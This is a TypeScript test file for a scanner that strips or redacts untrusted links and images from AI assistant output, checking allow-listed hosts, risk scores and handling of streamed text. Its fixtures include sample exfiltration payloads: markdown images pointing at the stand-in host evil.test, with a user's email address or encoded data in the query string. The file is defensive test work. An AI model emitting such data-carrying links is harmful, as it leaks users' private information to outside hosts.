import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import type { Conversation } from '../core/conversation.ts';
import type { Finding } from '../core/finding.ts';
import { applyRewrites } from '../core/guard.ts';
import { createLinkScanner, linkPendingStart, links } from './links.ts';

const CONTEXT = { stage: 'output', origin: 'assistant', role: 'assistant' } as const;
const scanner = createLinkScanner({ allowHosts: ['docs.example.com', '*.trusted.dev'] });
const scan = (text: string): readonly Finding[] => scanner.scan(text, CONTEXT) as readonly Finding[];
const redacted = (text: string): string =>
  applyRewrites(
    text,
    scan(text).map((f) => ({ start: f.start, end: f.end, replacement: f.redaction ?? '' })),
  );

describe('links', () => {
  const cases: readonly { text: string; out: string }[] = [
    { text: 'See ![chart](https://evil.test/p.png?d=abc).', out: 'See [image removed].' },
    { text: 'Read [the docs](https://evil.test/x) now', out: 'Read the docs now' },
    {
      text: 'Read [the docs](https://docs.example.com/x) now',
      out: 'Read [the docs](https://docs.example.com/x) now',
    },
    { text: 'api at https://api.trusted.dev/v1.', out: 'api at https://api.trusted.dev/v1.' },
    { text: 'go to https://evil.test/a?b=c.', out: 'go to [link removed].' },
    { text: 'x <img src="https://evil.test/i.gif"> y', out: 'x [image removed] y' },
    { text: 'a <a href="https://evil.test">click</a> b', out: 'a click b' },
    { text: '<iframe src=//evil.test/f></iframe>', out: '[link removed]</iframe>' },
    { text: 'relative ![x](/img/a.png) is fine', out: 'relative ![x](/img/a.png) is fine' },
    { text: '![a][r]\n\n[r]: https://evil.test/q?x=1\n', out: '![a][r]\n\n\n' },
    { text: 'mail [me](mailto:a@b.test)', out: 'mail [me](mailto:a@b.test)' },
    { text: '[run](javascript:void)', out: 'run' },
  ];
  for (const { text, out } of cases) {
    it(`rewrites ${JSON.stringify(text)}`, () => {
      assert.equal(redacted(text), out);
    });
  }

  it('scores fetches above links and data-carrying URLs higher still', () => {
    const [image] = scan('![x](https://evil.test/a.png)');
    const [link] = scan('[x](https://evil.test/a)');
    const [data] = scan(`![x](https://evil.test/a.png?q=${'QUJD'.repeat(12)})`);
    assert.ok(image && link && data);
    assert.ok(image.score > link.score);
    assert.ok(data.score > image.score);
    assert.equal(data.details?.carriesData, true);
  });

  it('weighs values the caller sent and pseudonym placeholders', () => {
    const conversation: Conversation = {
      api: 'openai',
      endpoint: 'chat',
      model: 'm',
      stream: false,
      tools: [],
      messages: [
        {
          role: 'user',
          toolCalls: [],
          segments: [
            { text: 'I am alice@corp.test', role: 'user', origin: 'prompt', path: [], messageIndex: 0 },
          ],
        },
      ],
    };
    const exchange = scanner.forExchange?.(conversation).scanner;
    assert.ok(exchange);
    const [known] = exchange.scan('![](https://evil.test/?u=alice%40corp.test)', CONTEXT) as Finding[];
    assert.equal(known?.details?.carriesData, true);
    const [placeholder] = scan('![](https://evil.test/?u=<EMAIL_ADDRESS_1>)');
    assert.equal(placeholder?.details?.carriesData, true);
    assert.equal(placeholder.end, '![](https://evil.test/?u=<EMAIL_ADDRESS_1>)'.length);
  });

  it('never puts the URL in the finding details', () => {
    for (const f of scan('![x](https://evil.test/secret-path)')) {
      assert.ok(!JSON.stringify(f.details).includes('secret-path'));
    }
  });

  it('reports where a link may still be arriving', () => {
    assert.equal(linkPendingStart('Hello there'), 11);
    assert.equal(linkPendingStart('See ![chart](https://ev'), 4);
    assert.equal(linkPendingStart('See [docs]'), 4);
    assert.equal(linkPendingStart('See [docs] and more'), 19);
    assert.equal(linkPendingStart('visit https://evil.test/a'), 6);
    assert.equal(linkPendingStart('visit htt'), 6);
    assert.equal(linkPendingStart('visit https://evil.test/a '), 26);
    assert.equal(linkPendingStart('x <img src="https://e'), 2);
  });

  it('never releases text a later finding starts in: findings before the pending start are final', () => {
    const texts = [
      'See ![chart](https://evil.test/p.png?d=QWxpY2UgU21pdGggb3JkZXIgNDIgY2FyZCA0MjQy) and [docs](https://docs.example.com/a).',
      'Go to https://evil.test/collect?u=alice and <a href="https://evil.test/x">here</a> or <img src="https://e.test/i.png"> ok',
      '![a][r] text\n[r]: https://evil.test/q?x=1\nbye [x](https://evil.test/y "title") end',
    ];
    const key = (f: Finding) => `${f.type}@${f.start}-${f.end}:${f.score}:${f.redaction ?? ''}`;
    for (const text of texts) {
      const final = scan(text);
      for (let cut = 1; cut <= text.length; cut++) {
        const prefix = text.slice(0, cut);
        const pending = linkPendingStart(prefix);
        const settled = (list: readonly Finding[]) => list.filter((f) => f.start < pending).map(key);
        assert.deepEqual(settled(scan(prefix)), settled(final), `cut at ${cut} of ${JSON.stringify(text)}`);
      }
    }
  });

  it('validates allowHosts as a list of host names', () => {
    assert.ok(links.options.safeParse({ action: 'redact', allowHosts: ['a.test'] }).success);
    assert.ok(!links.options.safeParse({ action: 'mask' }).success);
  });
});
